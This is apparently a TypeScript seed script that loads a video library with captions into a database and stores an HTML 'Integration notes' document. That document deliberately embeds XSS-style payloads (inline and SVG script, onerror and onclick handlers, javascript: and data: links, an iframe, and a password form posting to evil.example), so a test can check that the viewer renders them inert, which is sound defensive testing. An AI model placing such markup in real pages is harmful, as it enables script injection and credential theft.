import { readFileSync } from "node:fs";
import path from "node:path";
import type { Database } from "../../db/client";
import { documents, type Localized, videos } from "../../db/schema";
import { folderStore, type StoredObject } from "../../infra/file-store";
import { mimeOf } from "../../infra/file-checks";

/** A video of content/catalogue/videos.json (its clip and poster in content/media/videos/). */
interface SeedVideo {
  id: string;
  category: string;
  durationSeconds: number;
  publishedAt: string;
  title: Localized;
  summary: Localized;
  transcript: Record<string, string[]>;
  /** Languages whose transcript is also given as WebVTT captions. */
  captions: string[];
}

/** A video's type by its first bytes: WebM (EBML with the webm doc type) or MP4 (ftyp box). */
export function videoMime(head: Uint8Array): string {
  const bytes = Buffer.from(head.subarray(0, 64));
  if (bytes.readUInt32BE(0) === 0x1a45dfa3 && bytes.includes(Buffer.from("webm")))
    return "video/webm";
  if (bytes.subarray(4, 8).toString("latin1") === "ftyp") return "video/mp4";
  return "application/octet-stream";
}

const timestamp = (ms: number) => {
  const s = Math.floor(ms / 1000);
  return `00:${String(Math.floor(s / 60)).padStart(2, "0")}:${String(s % 60).padStart(2, "0")}.${String(ms % 1000).padStart(3, "0")}`;
};

/** A WebVTT file showing `lines` one after another over `seconds`. */
export function webVtt(lines: string[], seconds: number): string {
  const slot = Math.floor((seconds * 1000) / Math.max(lines.length, 1));
  const cues = lines.map(
    (line, i) => `${i + 1}\n${timestamp(i * slot)} --> ${timestamp((i + 1) * slot)}\n${line}\n`,
  );
  return `WEBVTT\n\n${cues.join("\n")}`;
}

/** An HTML document with script payloads, to show that the viewer renders them inert. */
const INTEGRATION_NOTES = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Integration notes</title>
<script>window.__pwned = true; document.title = "pwned";</script>
<style>body { background: url(https://tracker.example/bg.png); }</style>
<link rel="stylesheet" href="https://cdn.example/evil.css"></head>
<body>
<h1>Integration notes</h1>
<p>Cameras speak ONVIF Profile S and T; the recorder accepts RTSP streams on port 554.</p>
<p onclick="window.__pwned = true">Event subscriptions use the <code>PullPoint</code> interface.</p>
<img src="/favicon.ico" alt="" onerror="window.__pwned = true; document.title = 'pwned'">
<img src="https://tracker.example/pixel.gif" alt="remote">
<a href="javascript:window.__pwned=true">Open the console</a>
<a href="data:text/html,<script>alert(1)</script>">Data link</a>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<svg><script>window.__pwned = true</script></svg>
<ul><li>Time sync: NTP every hour.</li><li>Default HTTP port: 80.</li></ul>
</body></html>
`;

/**
 * The video library (20 short clips over every category, with posters, WebVTT captions and
 * transcripts) and the HTML document "Integration notes" (with script payloads the viewer must
 * render inert), from `catalogueDir`/videos.json and the clips beside it in
 * content/media/videos. Files go to the store at `filesDir` when given; one insert per table.
 */
export async function seedMedia(db: Database, input: { catalogueDir: string; filesDir?: string }) {
  const mediaDir = path.resolve(input.catalogueDir, "../media/videos");
  const store = input.filesDir ? folderStore(input.filesDir) : null;
  const { createHash } = await import("node:crypto");
  const keep = async (bytes: Buffer): Promise<Pick<StoredObject, "key" | "size" | "sha256">> => {
    const sha256 = createHash("sha256").update(bytes).digest("hex");
    if (store && !(await store.stat(sha256))) await store.put(bytes);
    return { key: sha256, size: bytes.length, sha256 };
  };
  const list = (
    JSON.parse(readFileSync(path.join(input.catalogueDir, "videos.json"), "utf8")) as {
      videos: SeedVideo[];
    }
  ).videos;
  const rows = [];
  for (const v of list) {
    const clip = readFileSync(path.join(mediaDir, `${v.id}.webm`));
    const file = await keep(clip);
    const poster = await keep(readFileSync(path.join(mediaDir, `${v.id}.jpg`)));
    const captions: Record<string, string> = {};
    for (const code of v.captions) {
      const lines = v.transcript[code];
      if (lines) captions[code] = (await keep(Buffer.from(webVtt(lines, v.durationSeconds)))).key;
    }
    rows.push({
      id: v.id,
      category: v.category,
      title: v.title,
      summary: v.summary,
      durationSeconds: v.durationSeconds,
      publishedAt: v.publishedAt,
      fileKey: file.key,
      size: file.size,
      sha256: file.sha256,
      mime: videoMime(clip),
      posterKey: poster.key,
      captions,
      transcript: v.transcript,
    });
  }
  await db.delete(videos);
  if (rows.length) await db.insert(videos).values(rows);
  const notes = Buffer.from(INTEGRATION_NOTES, "utf8");
  const stored = await keep(notes);
  await db.insert(documents).values({
    kind: "deployment-guide",
    title: {
      en: "Integration notes",
      br: "Notas de integração",
      ksa: "ملاحظات التكامل",
      tur: "Entegrasyon notları",
      el: "Σημειώσεις ενσωμάτωσης",
      es: "Notas de integración",
      jp: "統合に関する注記",
      zh: "集成说明",
    },
    language: "en",
    format: "html",
    version: "1.0",
    scenario: "manufacturing",
    fileKey: stored.key,
    sha256: stored.sha256,
    size: stored.size,
    mime: mimeOf(notes.subarray(0, 64)),
    releaseDate: "2025-06-02",
  });
  return { videos: rows.length };
}
